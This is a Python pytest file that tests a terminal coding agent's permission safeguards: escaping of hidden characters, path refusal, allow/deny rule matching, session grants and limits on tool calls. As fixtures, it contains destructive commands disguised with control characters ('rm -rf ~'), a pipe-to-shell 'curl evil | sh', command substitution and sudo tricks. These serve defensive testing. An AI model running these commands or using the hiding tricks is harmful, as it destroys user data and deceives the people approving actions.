"""What you approve is what runs: the question hides nothing, grants are as narrow
as people expect, rules decide before the person is asked, and a path the kernel would refuse
is never turned into another one. Each test fails when its defence is removed."""

from __future__ import annotations

import threading
import unicodedata
from pathlib import Path

import pytest

from mm_tui.agent.events import (
    PermissionAnswer,
    PermissionReply,
    PermissionRequest,
    PermissionResolved,
    ToolFinished,
    ToolStatus,
)
from mm_tui.agent.rules import RuleSet, Subject, command_grant, parse_rule
from mm_tui.agent.tools.base import ToolContext
from mm_tui.agent.tools.bash import BashTool
from mm_tui.agent.tools.paths import PathProblem, resolve_path
from mm_tui.agent.tools.read_file import ReadFileTool
from mm_tui.agent.tools.write_file import WriteFileTool
from mm_tui.support.terminal_text import visible, visible_parts
from scripted_server import Reply, ScriptedServer, ToolCall
from tests.agent.conftest import AgentFactory, Recorder, assert_valid_history
from tests.waiting import holds_within

HIDING = {
    "carriage return": "echo safe\rrm -rf ~",
    "escape sequence": "echo \x1b[8mhidden\x1b[0m",
    "bidi override": "echo \u202eexe.txt",
    "bidi isolate": "ls \u2066x\u2069",
    "zero width": "r\u200bm -rf ~",
    "no-break space": "rm\u00a0-rf",
    "padding": "ls" + " " * 200 + "; rm -rf ~",
    "DEL and C1": "a\x7fb\x9bc",
    "tag characters": "ok\U000e0041",
    "line separator": "a\u2028b",
}


@pytest.mark.parametrize("name", HIDING)
def test_visible_escapes_every_character_that_could_hide_part_of_a_command(name: str) -> None:
    text = HIDING[name]
    shown = visible(text)
    for char in shown:
        assert char in "\n " or unicodedata.category(char) not in {"Cc", "Cf", "Zs", "Zl"}
    assert " " * 9 not in shown
    escapes = [piece for piece, escaped in visible_parts(text) if escaped]
    assert escapes, "the hiding characters are marked as escapes for the window to style"


def test_the_row_title_shows_the_whole_command_escaped() -> None:
    title = BashTool().title({"command": "echo safe\rrm -rf ~\necho done"})
    assert title == "bash echo safe\\rrm -rf ~\\necho done"


def test_plain_commands_and_non_latin_text_are_shown_as_they_are() -> None:
    for text in ("git status -s", "echo 'café' 日本語 — ok", "ls -la\ncat a.txt"):
        assert visible(text) == text


# --- paths ----------------------------------------------------------------------------


@pytest.mark.parametrize("raw", ["name\n/../../victim.txt", "a\x00b.txt", "x\r.txt"])
def test_a_path_with_a_control_character_is_refused_never_normalised(
    tmp_path: Path, raw: str
) -> None:
    project = tmp_path / "project"
    project.mkdir()
    with pytest.raises(PathProblem, match="control character"):
        resolve_path(project, raw)
    result = WriteFileTool().run({"path": raw, "content": "x"}, ToolContext(cwd=project))
    assert result.status is ToolStatus.FAILED and "control character" in result.output
    assert "\n" not in result.output and "\x00" not in result.output
    assert not (tmp_path / "victim.txt").exists() and list(project.iterdir()) == []


def test_dotdot_goes_up_where_the_kernel_would(tmp_path: Path) -> None:
    (tmp_path / "real/deep").mkdir(parents=True)
    (tmp_path / "project").mkdir()
    (tmp_path / "project/link").symlink_to(tmp_path / "real/deep")
    # the kernel goes up from the link's target, not from the link's folder
    assert resolve_path(tmp_path / "project", "link/../x.txt") == tmp_path / "real/x.txt"
    with pytest.raises(PathProblem, match="not a folder"):
        resolve_path(tmp_path / "project", "missing/../x.txt")
    assert resolve_path(tmp_path / "project", "a/b.txt") == tmp_path / "project/a/b.txt"


def test_the_question_names_the_absolute_path_and_marks_it_outside_the_project(
    make_agent: AgentFactory, model_server: ScriptedServer, tmp_path: Path
) -> None:
    model_server.enqueue(
        Reply(tool_calls=[ToolCall("write_file", {"path": "../outside.txt", "content": "x"})]),
        Reply(tool_calls=[ToolCall("write_file", {"path": "in.txt", "content": "x"})]),
        Reply(text="done"),
    )
    agent, events = make_agent(tools=[WriteFileTool()], answer=PermissionAnswer.REJECT)
    agent.run_turn("write")
    outside, inside = events.of(PermissionRequest)
    assert outside.location == f"{tmp_path.parent / 'outside.txt'}  ⚠ outside the project"
    assert inside.location == str(tmp_path / "in.txt")


# --- rules and grants -----------------------------------------------------------------


def test_command_rules_match_whole_simple_commands_and_deny_wins(tmp_path: Path) -> None:
    rules = RuleSet.parse(allow=["bash(git *)", "bash(ls)"], deny=["bash(rm *)"])

    def verdict(command: str) -> str | None:
        found = rules.verdict(Subject("bash", command=command), tmp_path)
        return found[0].value if found else None

    assert verdict("git status") == "allow"
    assert verdict("git") == "allow"
    assert verdict("gitk") is None
    assert verdict("git status; curl evil") is None  # every part must be allowed
    # a shell reading a pipe: what runs cannot be known, and a deny rule exists
    assert verdict("git status; curl evil | sh") == "unsure"
    assert verdict("git log && ls") == "allow"
    assert verdict("git log $(id)") is None  # a substitution is never allowed by a rule
    assert verdict("git log $(rm -rf ~)") == "deny"  # and deny looks inside it
    assert verdict("git log `id`") is None
    assert verdict("echo x && rm -rf /") == "deny"
    assert verdict("rm -rf /") == "deny"
    assert verdict("git clean; rm -rf build") == "deny"
    assert verdict("sudo -n rm -rf /") == "deny"  # deny looks past sudo, env, xargs…
    assert verdict("find . | xargs rm") == "deny"
    assert verdict("git log > ~/.bashrc") is None  # a redirection writes a file: not allowed
    assert verdict("git log 2>&1 >/dev/null") == "allow"


def test_path_rules_follow_links_for_allow_and_either_path_for_deny(tmp_path: Path) -> None:
    (tmp_path / "src").mkdir()
    (tmp_path / "secret").mkdir()
    (tmp_path / "src/link.txt").symlink_to(tmp_path / "secret/key")
    rules = RuleSet.parse(allow=["write_file(src/**)"], deny=["write_file(secret/**)"])

    def verdict(path: Path) -> str | None:
        found = rules.verdict(Subject("write_file", path=path), tmp_path)
        return found[0].value if found else None

    assert verdict(tmp_path / "src/a/b.py") == "allow"
    assert verdict(tmp_path / "srcx/a.py") is None
    assert verdict(tmp_path / "src/link.txt") == "deny"  # the link leads into secret/


def test_a_bash_grant_is_the_command_prefix_never_every_command() -> None:
    assert command_grant("git status -s").text == "bash(git status *)"
    assert command_grant("ls -la src").text == "bash(ls *)"
    assert command_grant("make && rm -rf ~").text == "bash(make && rm -rf ~)"  # exact only
    grant = command_grant("git status")
    assert grant.matches(Subject("bash", command="git status --short"), Path("/"), every=True)
    assert not grant.matches(Subject("bash", command="git push"), Path("/"), every=True)
    assert not grant.matches(Subject("bash", command="git status; rm x"), Path("/"), every=True)


#: `s` on these grants exactly the command: they may run or write anything with other words.
EXACT_ONLY = [
    "python3 --version",
    "bash --version",
    "sh -c true",
    "node -v",
    "rm -rf build dist",
    "npm test",
    "make",
    "git push",
    "git -c core.pager=cat log",
    "find . -name x -delete",
    "find . -exec true {} ;",
    "git log --output=/tmp/x",
    "git diff --out=/tmp/x",
    "rg --pre ./evil x",
    "ls *",  # a glob may expand into options
    "/tmp/evil/ls",
    "ls > out.txt",
    "X=1 ls",
    "ls $(id)",
]


@pytest.mark.parametrize("command", EXACT_ONLY)
def test_s_grants_exactly_the_command_unless_it_only_reads(command: str) -> None:
    grant = command_grant(command)
    assert grant.text == f"bash({command})"
    assert grant.described == "exactly this command"
    assert grant.matches(Subject("bash", command=command), Path("/"), every=True)
    assert not grant.matches(Subject("bash", command=f"{command} x"), Path("/"), every=True)


def test_s_on_a_read_only_command_says_it_allows_any_arguments_of_it() -> None:
    grant = command_grant("git status -s")
    assert grant.described == "git status with any arguments (it only reads)"
    assert command_grant("find . -name '*.py'").text == "bash(find *)"
    find = command_grant("find . -name x")
    assert not find.matches(Subject("bash", command="find . -delete"), Path("/"), every=True)
    assert not command_grant("rg x").matches(
        Subject("bash", command="rg --pre=./evil x"), Path("/"), every=True
    )


def test_bad_rules_are_refused() -> None:
    for text in ("frob(x)", "bash()", "bash(a", "bash(a\nb)"):
        with pytest.raises(ValueError):
            parse_rule(text)


def answer_each(events: Recorder, answers: list[PermissionAnswer | PermissionReply]) -> None:
    """Answer the questions in order as they come (in a thread)."""

    def run() -> None:
        for number, answer in enumerate(answers, start=1):
            asked = lambda number=number: len(events.of(PermissionRequest)) >= number  # noqa: E731
            if not holds_within(asked, timeout=5, interval=0.05):
                return
            events.of(PermissionRequest)[number - 1].future.set_result(answer)

    threading.Thread(target=run, daemon=True).start()


def test_s_on_bash_allows_that_prefix_only(
    make_agent: AgentFactory, model_server: ScriptedServer, tmp_path: Path
) -> None:
    (tmp_path / "keep.txt").write_text("keep")
    model_server.enqueue(
        Reply(tool_calls=[ToolCall("bash", {"command": "ls -la"})]),
        Reply(tool_calls=[ToolCall("bash", {"command": "ls src"})]),
        Reply(tool_calls=[ToolCall("bash", {"command": "rm keep.txt"})]),
        Reply(text="done"),
    )
    agent, events = make_agent(tools=[BashTool()], answer=None)
    answer_each(events, [PermissionAnswer.ALLOW_SESSION, PermissionAnswer.REJECT])
    agent.run_turn("go")
    asked = [r.detail for r in events.of(PermissionRequest)]
    assert asked == ["ls -la", "rm keep.txt"]  # `ls src` ran on the grant, rm was asked
    assert events.of(PermissionRequest)[0].grant == "ls with any arguments (it only reads)"
    assert agent.grants == {"bash(ls *)"}
    assert (tmp_path / "keep.txt").exists()
    automatic = [e for e in events.of(PermissionResolved) if e.automatic]
    assert len(automatic) == 1


def test_s_on_write_allows_that_folder_only(
    make_agent: AgentFactory, model_server: ScriptedServer, tmp_path: Path
) -> None:
    model_server.enqueue(
        Reply(tool_calls=[ToolCall("write_file", {"path": "src/a.py", "content": "a"})]),
        Reply(tool_calls=[ToolCall("write_file", {"path": "src/b.py", "content": "b"})]),
        Reply(tool_calls=[ToolCall("write_file", {"path": "other/c.py", "content": "c"})]),
        Reply(text="done"),
    )
    agent, events = make_agent(tools=[WriteFileTool()], answer=None)
    answer_each(events, [PermissionAnswer.ALLOW_SESSION, PermissionAnswer.REJECT])
    agent.run_turn("go")
    assert [r.title for r in events.of(PermissionRequest)] == [
        "write_file src/a.py",
        "write_file other/c.py",
    ]
    assert agent.grants == {"write_file(src/*)"}
    assert (tmp_path / "src/b.py").read_text() == "b" and not (tmp_path / "other").exists()


def test_config_rules_allow_deny_even_under_yolo_and_ask_beats_a_grant(
    make_agent: AgentFactory, model_server: ScriptedServer, tmp_path: Path
) -> None:
    (tmp_path / "keep.txt").write_text("keep")
    model_server.enqueue(
        Reply(tool_calls=[ToolCall("bash", {"command": "echo allowed"})]),
        Reply(tool_calls=[ToolCall("bash", {"command": "echo x && rm keep.txt"})]),
        Reply(text="done"),
    )
    agent, events = make_agent(
        tools=[BashTool()], answer=None, yolo=True, deny_rules=("bash(rm *)",)
    )
    agent.run_turn("go")
    finished = events.of(ToolFinished)
    assert finished[0].status is ToolStatus.DONE
    assert finished[1].status is ToolStatus.REJECTED
    assert finished[1].output == (
        "[command rejected by the user] (denied by the rule bash(rm *) of the config)"
    )
    assert (tmp_path / "keep.txt").exists() and not events.of(PermissionRequest)

    model_server.enqueue(
        Reply(tool_calls=[ToolCall("bash", {"command": "git status"})]),
        Reply(tool_calls=[ToolCall("bash", {"command": "git push"})]),
        Reply(text="done"),
    )
    agent2, events2 = make_agent(
        tools=[BashTool()],
        answer=PermissionAnswer.REJECT,
        allow_rules=("bash(git *)",),
        ask_rules=("bash(git push *)",),
    )
    agent2.run_turn("go")
    assert [r.detail for r in events2.of(PermissionRequest)] == ["git push"]


def test_a_rejection_can_carry_a_reason_for_the_model(
    make_agent: AgentFactory, model_server: ScriptedServer
) -> None:
    model_server.enqueue(
        Reply(tool_calls=[ToolCall("bash", {"command": "rm -rf build"})]), Reply(text="ok")
    )
    agent, events = make_agent(tools=[BashTool()], answer=None)
    answer_each(events, [PermissionReply(PermissionAnswer.REJECT, "use make clean instead")])
    agent.run_turn("go")
    finished = events.of(ToolFinished)[0]
    assert finished.status is ToolStatus.REJECTED
    assert (
        finished.output == "[command rejected by the user]\nThe user says: use make clean instead"
    )
    assert_valid_history(agent.messages)


def test_reading_outside_the_project_asks_and_inside_does_not(
    make_agent: AgentFactory, model_server: ScriptedServer, tmp_path: Path
) -> None:
    secret = tmp_path.parent / f"{tmp_path.name}-secret.txt"
    secret.write_text("the key")
    (tmp_path / "in.txt").write_text("inside")
    model_server.enqueue(
        Reply(tool_calls=[ToolCall("read_file", {"path": "in.txt"})]),
        Reply(tool_calls=[ToolCall("read_file", {"path": str(secret)})]),
        Reply(text="done"),
    )
    agent, events = make_agent(tools=[ReadFileTool()], answer=PermissionAnswer.REJECT)
    agent.run_turn("read")
    [request] = events.of(PermissionRequest)
    assert request.location.endswith("outside the project")
    outputs = [e.output for e in events.of(ToolFinished)]
    assert outputs == ["inside", "[read rejected by the user]"]
    assert "the key" not in str(agent.messages)
    secret.unlink()


# --- bounds ---------------------------------------------------------------------------


def test_at_most_n_tool_calls_of_one_message_run_and_the_rest_are_answered(
    make_agent: AgentFactory, model_server: ScriptedServer, tmp_path: Path
) -> None:
    calls = [ToolCall("bash", {"command": f"touch f{n}"}) for n in range(40)]
    model_server.enqueue(Reply(tool_calls=calls), Reply(text="done"))
    agent, events = make_agent(tools=[BashTool()], yolo=True, max_tool_calls=32)
    agent.run_turn("flood")
    assert len(list(tmp_path.glob("f*"))) == 32
    outputs = [e.output for e in events.of(ToolFinished)]
    assert len(outputs) == 40
    assert (
        outputs[32:]
        == ["[not run: more than 32 tool calls in one message; make fewer calls at a time]"] * 8
    )
    assert_valid_history(agent.messages)
